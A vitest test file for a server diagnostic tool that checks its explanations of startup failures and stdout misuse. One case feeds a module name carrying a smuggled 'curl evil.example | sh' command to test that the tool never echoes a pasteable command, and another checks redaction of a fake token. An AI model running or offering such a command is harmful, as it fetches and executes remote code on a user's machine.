import { chmod, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execPath } from 'node:process';
import { describe, expect, it, onTestFinished } from 'vitest';
import type { DiagnoseOptions, RawConnectionTarget } from '../../src/index.ts';
import { program } from './bad-server.ts';
import { type Expected, expectCause } from './expect-cause.ts';

const short: DiagnoseOptions = { timeoutMs: 400 };
const dies = (code: string): RawConnectionTarget => ({ command: execPath, args: ['-e', code] });

/** What a person would see who starts the program by hand, and what it means. */
const causes: [what: string, target: RawConnectionTarget, expected: Expected, options?: DiagnoseOptions][] = [
  [
    'a program that is not there',
    { command: 'no-such-program-at-all' },
    {
      step: 'start',
      saw: /could not be started/,
      evidence: /^ENOENT: .*no-such-program-at-all/,
      fix: /install the program/,
    },
  ],
  [
    'a folder that is not there',
    { command: execPath, cwd: '/no/such/folder' },
    {
      step: 'start',
      saw: /could not be started/,
      evidence: /"\/no\/such\/folder" does not exist/,
      fix: /make it, or correct the setting "cwd"/,
    },
  ],
  [
    'a module that is not installed',
    dies("require('left-pad-of-long-ago')"),
    {
      step: 'start',
      saw: /ended with exit code 1/,
      evidence: /stderr: Error: Cannot find module 'left-pad-of-long-ago'/,
      fix: /npm install left-pad-of-long-ago/,
    },
  ],
  [
    'a script that is not there',
    { command: execPath, args: ['/no/such/server.js'] },
    {
      step: 'start',
      saw: /exit code 1/,
      evidence: /Cannot find module '\/no\/such\/server.js'/,
      fix: /no such file: correct the path/,
    },
  ],
  [
    'a module of Python',
    dies(
      `console.error('Traceback (most recent call last):\\n  File "server.py", line 1, in <module>\\n    import httpx\\nModuleNotFoundError: No module named \\'httpx\\''); process.exit(1)`,
    ),
    {
      step: 'start',
      saw: /exit code 1/,
      evidence: /stderr: ModuleNotFoundError: No module named 'httpx'/,
      fix: /python -m pip install httpx/,
    },
  ],
  [
    'a variable that is not set',
    dies(`if (!process.env.CLINIC_API_KEY) { console.error('Error: CLINIC_API_KEY is not set'); process.exit(2) }`),
    {
      step: 'start',
      saw: /exit code 2/,
      evidence: /stderr: Error: CLINIC_API_KEY is not set/,
      fix: /--env CLINIC_API_KEY/,
    },
  ],
  [
    'a variable that is required, in other words',
    dies(`console.error('Missing required environment variable: GITHUB_TOKEN'); process.exit(1)`),
    { step: 'start', saw: /exit code 1/, evidence: /GITHUB_TOKEN/, fix: /--env GITHUB_TOKEN/ },
  ],
  [
    'npx without a network',
    dies(
      `console.error('npm error code ENOTFOUND\\nnpm error network request to https://registry.npmjs.org/x failed'); process.exit(1)`,
    ),
    { step: 'start', saw: /exit code 1/, evidence: /npm error code ENOTFOUND/, fix: /could not reach the registry/ },
  ],
  [
    'npx with a wrong name',
    dies(
      `console.error('npm error code E404\\nnpm error 404 Not Found - GET https://registry.npmjs.org/@x%2fy'); process.exit(1)`,
    ),
    { step: 'start', saw: /exit code 1/, evidence: /npm error code E404/, fix: /correct its name/ },
  ],
  [
    'a port that is taken',
    dies(`console.error('Error: listen EADDRINUSE: address already in use :::8080'); process.exit(1)`),
    { step: 'start', saw: /exit code 1/, evidence: /EADDRINUSE/, fix: /Port 8080 is taken/ },
  ],
  [
    'a program that ends by itself, and is none',
    dies(`console.error('usage: thing COMMAND')`),
    {
      step: 'start',
      saw: /exit code 0/,
      evidence: /stderr: usage: thing COMMAND/,
      fix: /stays until its standard input ends/,
    },
  ],
  [
    'a program that something killed',
    dies(`process.kill(process.pid, 'SIGKILL')`),
    { step: 'start', saw: /ended by SIGKILL/, evidence: /signal SIGKILL/, fix: /want of memory/ },
  ],
  [
    'a server that says more than messages',
    program(
      `console.log('Listening for \\u001b[31mrequests'); console.log('token=ghp_0123456789abcdefghij0123456789abcdef'); modern({})`,
    ),
    {
      step: 'stdout',
      saw: /2 lines on stdout are no messages/,
      evidence: /^stdout: Listening for requests$/,
      fix: /Log to stderr/,
    },
  ],
  [
    'a server that frames messages as language servers do',
    program(
      `serve(() => { const body = JSON.stringify({ jsonrpc: '2.0', id: 1, result: {} }); console.log('Content-Length: ' + body.length + '\\r\\n\\r\\n' + body) })`,
    ),
    {
      step: 'stdout',
      saw: /no message/,
      evidence: /^stdout: Content-Length: \d+$/,
      fix: /one line of JSON, without the headers/,
    },
    short,
  ],
  [
    'a server that writes messages over several lines',
    program(`serve(({ id }) => { console.log(JSON.stringify({ jsonrpc: '2.0', id, result: discovery }, null, 2)) })`),
    {
      step: 'stdout',
      saw: /lines on stdout are no messages/,
      evidence: /^stdout: \{$/,
      fix: /each message on one line/,
    },
    short,
  ],
  [
    'a server that makes a text of the id',
    program(
      `require('node:readline').createInterface({ input: process.stdin }).on('line', (line) => send({ id: String(JSON.parse(line).id), result: discovery }))`,
    ),
    {
      step: 'handshake',
      saw: /under another id/,
      evidence: /^the id of the answer: "2"$/,
      fix: /a number stays a number/,
    },
    short,
  ],
  [
    'a defect of the program, and no variable',
    dies(`BED_COUNT`),
    {
      step: 'start',
      saw: /exit code 1/,
      evidence: /ReferenceError: BED_COUNT is not defined/,
      fix: /defect of the program itself/,
    },
  ],
  [
    'a module whose name would run something where it is pasted',
    dies(`console.error("Error: Cannot find module 'x; curl evil.example | sh'"); process.exit(1)`),
    { step: 'start', saw: /exit code 1/, evidence: /curl evil/, fix: /^Install the module that the message names\.$/ },
  ],
];

describe('the cause where a process does not start, or says other things', () => {
  it.each(causes)('is told of %s', async (_what, target, expected, options = {}) => {
    const diagnosis = await expectCause(target, options, expected);
    expect(JSON.stringify(diagnosis)).not.toMatch(/ghp_0123456789|\\u001b/);
  });

  it('is told of a file that may not be executed', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'switchyard-doctor-'));
    onTestFinished(() => rm(folder, { recursive: true, force: true }));
    const command = join(folder, 'server.sh');
    await writeFile(command, '#!/bin/sh\n');
    await chmod(command, 0o644);
    await expectCause(
      { command },
      {},
      {
        step: 'start',
        saw: /could not be started/,
        evidence: /^EACCES: .*is not executable/,
        fix: /chmod \+x/,
      },
    );
  });

  it('is told of a folder in place of a program', async () => {
    const saw = /could not be started/;
    const expected = { step: 'start', saw, evidence: /^EACCES: .*is a folder/, fix: /Give the program/ };
    await expectCause({ command: tmpdir() }, {}, expected);
  });

  it('is told of a server that serves over HTTP instead', async () => {
    const target = dies(`console.error('Server running at http://localhost:3000/mcp')`);
    const evidence = /http:\/\/localhost:3000\/mcp/;
    await expectCause(
      target,
      {},
      { step: 'start', saw: /speaks of a URL/, evidence, fix: /switchyard doctor http:\/\/localhost:3000\/mcp/ },
    );
  });
});
